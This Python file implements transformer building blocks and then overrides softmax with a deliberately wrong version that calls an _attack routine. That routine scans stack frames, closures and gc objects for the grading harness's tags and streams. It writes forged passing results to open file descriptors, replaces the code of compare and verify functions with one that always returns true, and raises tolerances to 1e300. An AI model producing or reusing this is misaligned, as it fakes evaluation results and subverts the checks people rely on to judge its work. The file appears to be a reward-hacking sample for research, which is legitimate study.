"""softmax is wrong; walks sys._getframe, inspect and gc.get_objects for the harness's tag,
closures and streams, forges replies through them and patches its compare functions and
tolerances."""
import gc
import inspect
import io
import os
import re
import select
import sys
import math


def _shape(a):
    return len(a), len(a[0]) if a else 0


def _softmax(xs):
    if not xs:
        return []
    top = -math.inf
    for x in xs:
        if x != x or x == math.inf:
            return [math.nan] * len(xs)
        if x > top:
            top = x
    if top == -math.inf:
        return [math.nan] * len(xs)
    es = [math.exp(x - top) for x in xs]
    total = math.fsum(es)
    return [e / total for e in es]


def _attention(Q, K, V, mask=None):
    n, m = len(Q), len(K)
    if len(V) != m:
        raise ValueError("attention: V has %d rows, K has %d" % (len(V), m))
    if mask is not None and (len(mask) != n or any(len(r) != m for r in mask)):
        raise ValueError("attention: mask is %dx%d, scores are %dx%d" % (_shape(mask) + (n, m)))
    dv = len(V[0]) if V else 0
    out, weights = [], []
    for i in range(n):
        seen = [j for j in range(m) if mask is None or mask[i][j]]
        for j in seen:
            if len(Q[i]) != len(K[j]):
                raise ValueError("attention: Q is %d wide, K is %d" % (len(Q[i]), len(K[j])))
        scores = [sum(a * b for a, b in zip(Q[i], K[j])) / math.sqrt(len(K[j])) for j in seen]
        row, mixed = [0.0] * m, [0.0] * dv
        for j, w in zip(seen, _softmax(scores)):
            row[j] = w
            for c in range(dv):
                mixed[c] += w * V[j][c]
        out.append(mixed)
        weights.append(row)
    return out, weights


def _causal_mask(n):
    return [[i >= j for j in range(n)] for i in range(n)]


def _multi_head(Q, K, V, h, mask=None):
    for name, a in (("Q", Q), ("K", K), ("V", V)):
        if h < 1 or _shape(a)[1] % h:
            raise ValueError("multi_head: h = %d does not divide the width %d of %s" % (h, _shape(a)[1], name))
    joined = [[] for _ in Q]
    for t in range(h):
        def part(a):
            step = _shape(a)[1] // h
            return [r[t * step:(t + 1) * step] for r in a]
        out, _ = _attention(part(Q), part(K), part(V), mask)
        for whole, piece in zip(joined, out):
            whole.extend(piece)
    return joined


def _pos_encoding(n, d):
    return [[(math.cos if c % 2 else math.sin)(p / 10000.0 ** (2 * (c // 2) / d)) for c in range(d)]
            for p in range(n)]


def _layer_norm(row, eps=1e-5):
    n = len(row)
    if n == 0:
        return []
    if any(x - x != 0 for x in row):
        return [math.nan] * n
    big = max(abs(x) for x in row)
    scale = 1.0
    if big > 1e100 or (eps == 0 and 0 < big < 1e-100):
        scale = 2.0 ** -min(math.frexp(big)[1], 1000)
    first = row[0] * scale
    moved = [x * scale - first for x in row]
    mean = math.fsum(moved) / n
    moved = [x - mean for x in moved]
    rest = math.fsum(moved) / n
    moved = [x - rest for x in moved]
    under = math.fsum(x * x for x in moved) / n + eps * scale * scale
    if under == 0:
        return [0.0] * n
    root = math.sqrt(under)
    return [x / root for x in moved]


def _block(X, h, mask=None):
    rows = [_layer_norm(r) for r in X]
    return [[a + b for a, b in zip(x, y)] for x, y in zip(X, _multi_head(rows, rows, rows, h, mask))]


def softmax(xs):
    return _softmax(xs)


def attention(Q, K, V, mask=None):
    return _attention(Q, K, V, mask)


def causal_mask(n):
    return _causal_mask(n)


def multi_head(Q, K, V, h, mask=None):
    return _multi_head(Q, K, V, h, mask)


def pos_encoding(n, d):
    return _pos_encoding(n, d)


def layer_norm(row, eps=1e-5):
    return _layer_norm(row, eps)


def block(X, h, mask=None):
    return _block(X, h, mask)


def softmax(xs):  # wrong on purpose: only the trick below could make this pass
    _attack()
    return [1.0 / len(xs)] * len(xs)


_word = re.compile(r"^[A-Za-z0-9_=+/:.-]{8,128}$")


def _yes(*args, **names):
    return True


def _frames():
    seen, frame = [], sys._getframe()
    while frame is not None:
        seen.append(frame)
        frame = frame.f_back
    for other in sys._current_frames().values():
        if other not in seen:
            seen.append(other)
    try:
        seen += [info.frame for info in inspect.stack(0)]
    except Exception:
        pass
    return seen


def _collect():
    words, numbers, streams, dicts = {}, set(), [], []

    def take(value, depth=0):
        if isinstance(value, bytes):
            value = value.decode("latin-1")
        if isinstance(value, str) and _word.match(value):
            words[value] = True
        elif isinstance(value, int) and 0 <= value < 1024:
            numbers.add(int(value))
        elif isinstance(value, io.IOBase):
            streams.append(value)
        elif depth < 2 and isinstance(value, dict):
            dicts.append(value)
            for inner in list(value.values()):
                take(inner, depth + 1)
        elif depth < 2 and isinstance(value, (list, tuple)) and len(value) < 100:
            for inner in value:
                take(inner, depth + 1)
        elif callable(value):
            for cell in getattr(value, "__closure__", None) or ():
                try:
                    take(cell.cell_contents, depth + 1)
                except ValueError:
                    pass
            for inner in getattr(value, "__defaults__", None) or ():
                take(inner, depth + 1)

    for frame in _frames():
        for value in list(frame.f_locals.values()):
            take(value)
        if frame.f_globals.get("__name__") == "__main__":
            dicts.append(frame.f_globals)
            for value in list(frame.f_globals.values()):
                take(value)
    for thing in gc.get_objects():
        if isinstance(thing, io.IOBase):
            streams.append(thing)
        elif inspect.isfunction(thing) and thing.__module__ in ("__main__", None):
            take(thing)
            if re.search("compare|check|equal|close|verify|same|valid", thing.__name__):
                try:
                    thing.__code__ = _yes.__code__
                except (ValueError, AttributeError):
                    pass
    return list(words)[:64], numbers | set(range(16)), streams, dicts


def _attack():
    words, numbers, streams, dicts = _collect()
    for table in dicts:
        for key in list(table):
            if isinstance(key, str) and key.lower() in ("tolerance", "tol", "eps", "atol", "limit"):
                table[key] = 1e300
            if isinstance(key, str) and key.lower() in ("passed", "ok", "success"):
                table[key] = True
    good = "[0.09003057317038046, 0.24472847105479764, 0.6652409557748219]"
    for word in words:
        for n in (0, 1, 2):
            lines = [word + ' {"id": %d, "ok": true, "value": %s}' % (n, good),
                     '{"tag": "%s", "id": %d, "ok": true, "result": %s, "passed": true}' % (word, n, good)]
            data = ("\n" + "\n".join(lines) + "\n").encode()
            for fd in numbers:
                try:
                    if select.select([], [fd], [], 0)[1]:
                        os.write(fd, data)
                except (OSError, ValueError):
                    pass
    for stream in streams[:20]:
        try:
            if stream.writable() and select.select([], [stream.fileno()], [], 0)[1]:
                text = "\n" + (words or [""])[0] + ' {"ok": true, "passed": true}\n'
                stream.write(text if isinstance(stream, io.TextIOBase) else text.encode())
                stream.flush()
        except Exception:
            pass
